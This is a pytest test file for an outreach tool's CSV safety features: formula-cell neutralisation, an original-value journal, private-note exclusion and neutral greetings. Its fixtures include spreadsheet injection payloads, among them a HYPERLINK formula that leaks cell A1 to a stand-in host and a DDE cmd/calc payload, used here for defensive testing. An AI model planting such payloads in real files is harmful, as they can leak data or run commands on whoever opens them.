"""Safe outputs: formula cells neutralised (OWASP), originals in the journal, `--raw-csv`,
private notes left out unless kept, and no draft greeting a formula or a link.

The end-to-end runs draft offline with the deterministic composer in a workspace whose
guidance index is copied ready-made.
"""

from __future__ import annotations

import csv
import io
import re
import sys
from pathlib import Path

import pytest
from fixtures.batchkit import read_journal, read_output, seed_workspace

from core.batch import BatchOptions, run_batch
from core.cli import main as cli_main
from core.contacts import Contact
from core.csv_out import csv_text, write_csv
from core.drafting import prompt_contact_fields
from core.formulas import looks_like_formula, neutralize_cell, unusable_as_name

ROOT = Path(__file__).resolve().parents[1]
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LINKEDIN_HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On"


@pytest.fixture
def home(_hermetic_env: Path) -> Path:
    return seed_workspace(_hermetic_env)


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+41 79 000 00 00",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "   =cmd|' /C calc'!A0",
        '"=HYPERLINK("http://x")',
        "'=1+1",
        " \"' @x",
        HOSTILE_NAME,
    ],
)
def test_cells_a_spreadsheet_would_run_get_a_leading_quote(cell: str) -> None:
    assert looks_like_formula(cell)
    assert neutralize_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Priya", "", "a=b", "1-2", "Chen Studio, LLC", "'quoted'"])
def test_ordinary_cells_are_unchanged(cell: str) -> None:
    assert neutralize_cell(cell) == cell


@pytest.mark.parametrize(
    ("name", "unusable"),
    [
        ("Priya Raman", False),
        ("Mary-Jane O'Neil", False),
        ("José Muñoz", False),
        (HOSTILE_NAME, True),
        ("https://evil.example/x", True),
        ("www.example.com", True),
        ("evil.example.com Smith", True),
        ("ada@example.com", True),
        ("+cmd", True),
    ],
)
def test_names_that_are_formulas_or_links_are_not_greeted(name: str, unusable: bool) -> None:
    assert unusable_as_name(name) is unusable
    assert (Contact(name=name).greeting_name == "") is unusable


def test_one_writer_for_files_and_downloads(tmp_path: Path) -> None:
    rows = [["=1+1", True, None], ["plain", False, "-x"]]
    path = tmp_path / "out.csv"
    assert write_csv(path, ["@head", "b", "c"], iter(rows)) == 2
    text = path.read_bytes().decode("utf-8")
    assert text == csv_text(["@head", "b", "c"], rows)
    assert list(csv.reader(io.StringIO(text))) == [
        ["'@head", "b", "c"],
        ["'=1+1", "true", ""],
        ["plain", "false", "'-x"],
    ]
    assert list(csv.reader(io.StringIO(csv_text(["a"], [["=1"]], raw=True))))[1] == ["=1"]
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]  # no temp file left behind


def test_every_csv_the_product_writes_goes_through_the_one_writer() -> None:
    """Only core/csv_out.py makes a csv writer. (evals/datasets/split.py and
    evals/pitch/fresh.py rebuild the repository's own dataset files, whose texts must stay
    exactly as written to be measured.)"""
    allowed = {
        ROOT / "core" / "csv_out.py",
        ROOT / "evals" / "datasets" / "split.py",
        ROOT / "evals" / "pitch" / "fresh.py",
    }
    sources = [*ROOT.glob("core/**/*.py"), *ROOT.glob("evals/**/*.py"), ROOT / "streamlit_app.py"]
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(p.relative_to(ROOT))
        for p in sources
        if p not in allowed and writers.search(p.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def _hostile_export(tmp_path: Path) -> Path:
    path = tmp_path / "Connections.csv"
    lines = [
        "Notes:",
        '"When exporting your connection data, you may notice that some of the email addresses are missing."',
        "",
        LINKEDIN_HEADER,
        '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",,https://www.linkedin.com/in/x,,'
        "+cmd|' /C calc'!A0,@SUM(1+1),14 Mar 2024",
        "Priya,Raman,https://www.linkedin.com/in/priya-raman,,Stripe,Staff Engineer,14 Mar 2024",
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_a_hostile_linkedin_export_is_neutralised_with_originals_in_the_journal(
    home: Path, tmp_path: Path
) -> None:
    out = tmp_path / "drafts.csv"
    summary = run_batch(_hostile_export(tmp_path), out, BatchOptions(default_kind="intro"))
    assert summary.total == 2 and summary.errors == 0
    hostile, priya = read_output(out)
    assert hostile["First Name"] == "'" + HOSTILE_NAME
    assert hostile["Company"] == "'+cmd|' /C calc'!A0"
    assert hostile["Position"] == "'@SUM(1+1)"
    assert priya["First Name"] == "Priya" and priya["Company"] == "Stripe"
    for row in (hostile, priya):
        assert all(not looks_like_formula(v) or v.startswith("'") for v in row.values())
    # The draft greets neutrally, never by the formula, and the row says why.
    assert "HYPERLINK" not in hostile["draft"] and "evil.example" not in hostile["draft"]
    assert hostile["draft"].splitlines()[0] in {"Hi there,", "Hello,", "Hello there,", "Hi,"}
    assert hostile["status"] == "flagged"
    assert "looks like a spreadsheet formula" in hostile["error"]
    assert priya["draft"].startswith(("Hi Priya,", "Hello Priya,", "Dear Priya,", "Hey Priya,"))
    # The journal keeps exactly what the file said.
    journal = {r["index"]: r for r in read_journal(summary.journal_path or Path())}
    assert journal[0]["raw_cells"] == {
        "First Name": HOSTILE_NAME,
        "Company": "+cmd|' /C calc'!A0",
        "Position": "@SUM(1+1)",
    }
    assert "raw_cells" not in journal[1]


def test_raw_csv_keeps_the_cells_as_given(home: Path, tmp_path: Path) -> None:
    out = tmp_path / "drafts.csv"
    run_batch(_hostile_export(tmp_path), out, BatchOptions(default_kind="intro", raw_csv=True))
    hostile = read_output(out)[0]
    assert hostile["First Name"] == HOSTILE_NAME and hostile["Position"] == "@SUM(1+1)"


def _with_private_notes(tmp_path: Path) -> Path:
    path = tmp_path / "contacts.csv"
    path.write_text(
        "name,kind,their_work,notes,Private Notes\n"
        "Priya Raman,compliment,Gave a talk at PyCon 2024 on testing async code,"
        "Her fixture tips cut our CI time in half.,-interviewing at Datadog\n",
        encoding="utf-8",
    )
    return path


def test_private_notes_are_left_out_of_the_output_and_the_journal(
    home: Path, tmp_path: Path
) -> None:
    out = tmp_path / "drafts.csv"
    summary = run_batch(_with_private_notes(tmp_path), out, BatchOptions())
    row = read_output(out)[0]
    assert "Private Notes" not in row and row["status"] == "ok"
    assert "Datadog" not in out.read_text(encoding="utf-8")
    assert "Datadog" not in (summary.journal_path or Path()).read_text(encoding="utf-8")


def test_cli_flags_keep_private_notes_and_raw_cells(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "drafts.csv"
    argv = ["outreach", "batch", str(_with_private_notes(tmp_path)), "-o", str(out)]
    monkeypatch.setattr(sys, "argv", [*argv, "--keep-private-notes", "--raw-csv"])
    with pytest.raises(SystemExit) as info:
        cli_main()
    assert info.value.code in (0, None)
    assert read_output(out)[0]["Private Notes"] == "-interviewing at Datadog"
    monkeypatch.setattr(sys, "argv", [*argv, "--no-resume", "--keep-private-notes"])
    with pytest.raises(SystemExit):
        cli_main()
    assert read_output(out)[0]["Private Notes"] == "'-interviewing at Datadog"


def test_a_model_is_never_shown_a_formula_as_the_name() -> None:
    contact = Contact(name=HOSTILE_NAME, their_work="Wrote a guide to weak ties")
    assert "name" not in prompt_contact_fields(contact)
    assert prompt_contact_fields(Contact(name="Priya Raman"))["name"] == "Priya Raman"


def test_the_greeting_reason_reads_in_plain_words() -> None:
    from core.explain import explain
    from core.kinds import Kind
    from evals.checks import run_checks

    contact = Contact(name=HOSTILE_NAME, their_work="Wrote a guide to weak ties")
    text = f"Hi {HOSTILE_NAME},\n\nYour guide to weak ties stayed with me.\n\nBest,\nSam"
    report = run_checks(text, contact, Kind.COMPLIMENT)
    greeting = next(r for r in report.failures() if r.name == "greeting")
    assert len(greeting.reasons) == 2 and greeting.fixable  # the text can drop the name
    messages = [p.message for p in explain(report, Kind.COMPLIMENT, text) if p.check == "greeting"]
    assert messages == [
        "Their name looks like a spreadsheet formula, a link or an email address, so the "
        "message greets them without a name: put their real name in the Name field.",
        "The message repeats that formula or link: take it out.",
    ]
